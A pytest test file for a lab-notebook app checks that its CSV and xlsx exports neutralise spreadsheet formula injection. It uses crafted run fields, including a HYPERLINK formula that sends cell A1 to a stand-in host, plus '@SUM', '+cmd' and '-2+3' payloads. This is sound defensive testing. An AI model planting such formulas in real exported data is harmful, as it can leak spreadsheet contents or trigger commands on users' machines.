"""Stored text in a CSV or xlsx export is shown by the spreadsheet, never run as a formula.

Source: docs/sources.md, "Records, files and exchange formats" (OWASP, "CSV Injection";
ECMA-376 SpreadsheetML, the `c` and `f` elements).
"""

from __future__ import annotations

import copy
import csv
import io
import zipfile

import pytest

from samples import MINIMAL_RUN

TITLE = '=HYPERLINK("http://example.invalid/?x="&A1,"open")'
CHEMIST = "@SUM(1+1)"
ADDITIVE = "+cmd"


@pytest.fixture
def crafted(notebook):
    run = copy.deepcopy(MINIMAL_RUN)
    run["title"] = TITLE
    run["chemist"] = CHEMIST
    run["tags"] = ["-2+3"]
    run["lines"].append({"role": "additive", "name": ADDITIVE, "smiles": "[Cs+].[F-]", "equiv": 1})
    run["steps"][0]["add"].append(ADDITIVE)
    notebook.add_run(run, author="tester")
    return notebook


def _runs(nb):
    return [nb.get_run(r["id"]) for r in nb.list_runs()]


def test_csv_cells_that_would_be_formulas_start_with_a_quote(crafted):
    from trapbook.exchange.tables import runs_csv

    row = next(csv.DictReader(io.StringIO(runs_csv(crafted, _runs(crafted)))))
    assert row["title"] == "'" + TITLE
    assert row["chemist"] == "'" + CHEMIST
    assert row["tags"] == "'-2+3"
    assert row["additive"] == "'" + ADDITIVE
    # numbers stay numbers: the lowest temperature of the run is -78 °C, written without a quote
    assert float(row["T min (°C)"]) == -78.0
    assert row["precursor"] == "aryne precursor A"


def test_xlsx_keeps_the_text_as_text_with_no_formula(crafted, tmp_path):
    import openpyxl

    from trapbook.exchange.tables import export_xlsx

    out = tmp_path / "runs.xlsx"
    export_xlsx(crafted, _runs(crafted), output=out)
    with zipfile.ZipFile(out) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets
        for name in sheets:
            assert "<f>" not in z.read(name).decode("utf-8"), name
    wb = openpyxl.load_workbook(out)
    cells = {c.value: c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for text in (TITLE, CHEMIST, ADDITIVE):
        assert text in cells, text  # shown exactly as the chemist wrote it
        assert cells[text].data_type == "s"
